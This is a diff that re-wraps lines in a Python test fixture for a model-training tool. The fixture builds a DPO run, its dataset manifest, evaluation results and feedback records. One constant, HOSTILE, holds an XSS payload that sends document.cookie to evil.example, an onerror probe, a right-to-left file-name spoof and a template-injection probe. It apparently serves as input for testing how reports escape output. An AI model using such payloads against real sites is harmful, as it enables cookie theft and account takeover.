@@ -1,4 +1,5 @@
-"""A home with one complete turn in it: rows as the stages store them, with figures as a real run gives them."""
+"""A home with one complete turn in it: rows as the stages store them, with figures as a real run
+gives them."""
 
 from __future__ import annotations
 
@@ -36,7 +37,10 @@ from thumbwheel.rewards.types import RULE
 from thumbwheel.training.algorithms.dpo import DpoConfig
 from tiny_models import pair_files, record
 
-HOSTILE = '</pre><script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)> \u202egnp.exe\u0007 {{ 7*7 }}'
+HOSTILE = (
+    '</pre><script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)> '
+    "\u202egnp.exe\u0007 {{ 7*7 }}"
+)
 AGENT = "support"
 PARITY = Parity(5, 200, "F32", 1e-6, 1e-9, 1.0, 0.5, True, Limits(1e-4, 0.99), size=4_000_000)
 
@@ -54,7 +58,11 @@ def measure(name: str, before: float, after: float, half: float, n: int) -> dict
 
 
 def guard(name: str, before: float | None, after: float | None, n: int) -> dict[str, Any]:
-    ends = {} if before is None or after is None else {"low": after - before - 0.01, "high": after - before + 0.01}
+    ends = (
+        {}
+        if before is None or after is None
+        else {"low": after - before - 0.01, "high": after - before + 0.01}
+    )
     return {"name": name, "before": before, "after": after, "n": n, **ends}
 
 
@@ -67,14 +75,26 @@ def results(candidate: ModelVersion, against: ModelVersion) -> dict[str, Any]:
                         measure("preference accuracy, log-probability per token", 0.55, 0.69, 0.10, 118)],
         "guards": [guard("eos_rate", 1.0, 0.998, 620), guard("format_rate", 0.995, 0.997, 620), guard("answer_tokens", 10.2, 10.4, 620),
                    guard("nll_good", 0.82, 0.61, 118), guard("my_guard", None, None, 0)],
-        "slices": [measure("habit: invoices", 0.12, 0.88, 0.10, 110), measure("habit: newsletters", 0.31, 0.86, 0.12, 96),
+        "slices": [measure("habit: invoices", 0.12, 0.88, 0.10, 110), measure("habit: "
+        "newsletters", 0.31, 0.86, 0.12, 96),
                    measure("common rules", 0.97, 0.965, 0.02, 414)],
-        "examples": [{"case": "cas_1", "prompt": "From: billing@hosting.example\nSubject: Invoice 4711\n\nYour invoice is attached.",
-                      "reference": {"folder": "money", "keep": True}, "before": '{"folder": "inbox", "keep": true}',
+        "examples": [{"case": "cas_1", "prompt": "From: billing@hosting.example\nSubject: Invoice "
+        "4711\n\nYour "
+        "invoice "
+        "is "
+        "attached.",
+                      "reference": {"folder": "money", "keep": True}, "before": '{"folder": '
+                      '"inbox", '
+                      '"keep": '
+                      'true}',
                       "after": '{"folder": "money", "keep": true}', "value_before": 0.0, "value_after": 1.0},
                      {"case": "cas_2", "prompt": HOSTILE, "reference": HOSTILE, "before": HOSTILE, "after": "x" * 9000,
                       "value_before": 1.0, "value_after": 0.0}],
-        "reads": 1, "detectable": 0.045, "dropped": {"recorded answer does not fit the model": 2}, "notes": ["620 items in 611 groups"],
+        "reads": 1, "detectable": 0.045, "dropped": {"recorded answer does not fit the model": 2}, "notes": ["620 "
+        "items "
+        "in "
+        "611 "
+        "groups"],
         "rows": "r" * 64, "key": "k" * 64,
     }  # fmt: skip
 
@@ -106,21 +126,37 @@ def turn(ws: Workspace, tmp_path: Path) -> ModelVersion:
     manifest = {
         "files": pair_files(Artifacts(ws.home.blobs), tmp_path),
         "counts": {"train": 3, "dev": 2, "gate": 1}, "drops": {"answer equals the correction": 4},
-        "notes": {"answers with disagreeing raters": 9, "answers with different corrections": 0}, "rule": RULE, "fitted": {}, "config": {},
-        "warnings": ["the better answer is the longer one in 81% of the pairs; the model may learn length instead"],
+        "notes": {"answers with disagreeing raters": 9, "answers with different "
+        "corrections": 0}, "rule": RULE, "fitted": {}, "config": {},
+        "warnings": ["the better answer is the longer one in 81% of the pairs; the model may learn "
+        "length "
+        "instead"],
         "watermark": {"feedback": 6, "recorded_at": None},
     }  # fmt: skip
-    dataset = record(ws, datasets, AGENT, id="dst_pairs", shape="pairs", manifest=manifest, fingerprint="cd" * 32)
+    dataset = record(
+        ws, datasets, AGENT, id="dst_pairs", shape="pairs", manifest=manifest, fingerprint="cd" * 32
+    )
     config = DpoConfig(learning_rate=5e-5, beta=0.2, seed=7).model_dump(mode="json")
     environment = {"python": "3.11.7", "torch": "2.13.0", "platform": "Linux", "cpus": 2}
     run = record(ws, runs, AGENT, id="run_1", algorithm="dpo", dataset_id=dataset, base=base.base, base_fingerprint=base.base_fingerprint,
                  config=config, environment=environment, seed=7, state="finished", metrics={})  # fmt: skip
     folder = ws.home.runs / run
     folder.mkdir(parents=True)
-    (folder / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in metric_lines()))
+    (folder / "metrics.jsonl").write_text(
+        "".join(json.dumps(line) + "\n" for line in metric_lines())
+    )
     one = versions.add_candidate(ws, base, run, adapter)
     judged(ws, one, base)
-    record(ws, exports, AGENT, version_id=one.id, format="merged", path="/models/support-v1", files={}, parity=asdict(PARITY))
+    record(
+        ws,
+        exports,
+        AGENT,
+        version_id=one.id,
+        format="merged",
+        path="/models/support-v1",
+        files={},
+        parity=asdict(PARITY),
+    )
     return versions.move(ws, one, State.APPROVED, Basis.GOLD)
 
 
@@ -140,6 +176,25 @@ def recorded(ws: Workspace, turn: ModelVersion) -> None:
     for n in range(2):
         record(ws, subjects, AGENT, id=f"sub_{n}", external_id=f"person {n}")
     for n in [*range(6), 99]:
-        record(ws, traces, AGENT, id=f"trc_{n}", source="jsonl", external_id=f"t{n}", input_id="msg_1")
-        record(ws, feedback, AGENT, id=f"fbk_{n}", source="jsonl", external_id=f"f{n}", kind="thumb", value=True)
-        record(ws, feedback_targets, AGENT, feedback_id=f"fbk_{n}", external_id=f"t{n}", target_id=f"trc_{n}", kind="trace")
+        record(
+            ws, traces, AGENT, id=f"trc_{n}", source="jsonl", external_id=f"t{n}", input_id="msg_1"
+        )
+        record(
+            ws,
+            feedback,
+            AGENT,
+            id=f"fbk_{n}",
+            source="jsonl",
+            external_id=f"f{n}",
+            kind="thumb",
+            value=True,
+        )
+        record(
+            ws,
+            feedback_targets,
+            AGENT,
+            feedback_id=f"fbk_{n}",
+            external_id=f"t{n}",
+            target_id=f"trc_{n}",
+            kind="trace",
+        )
